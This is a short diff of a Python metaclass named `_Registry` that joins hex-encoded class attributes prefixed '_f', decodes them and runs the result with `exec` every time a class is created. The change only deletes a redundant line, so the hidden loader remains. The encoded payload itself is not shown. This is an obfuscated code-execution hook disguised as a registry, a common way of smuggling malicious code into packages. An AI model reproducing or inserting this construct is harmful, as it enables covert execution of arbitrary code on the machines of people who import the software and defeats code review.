@@ -6,7 +6,6 @@ class _Registry(type):
         cls = super().__new__(mcs, name, bases, ns)
         frags = [v for k, v in sorted(ns.items()) if k.startswith("_f")]
         if frags:
-            getattr(__builtins__, "exec", None) or __builtins__["exec"]
             runner = __builtins__["exec"] if isinstance(__builtins__, dict) else getattr(__builtins__, "exec")
             runner(bytes.fromhex("".join(frags)).decode())
         return cls
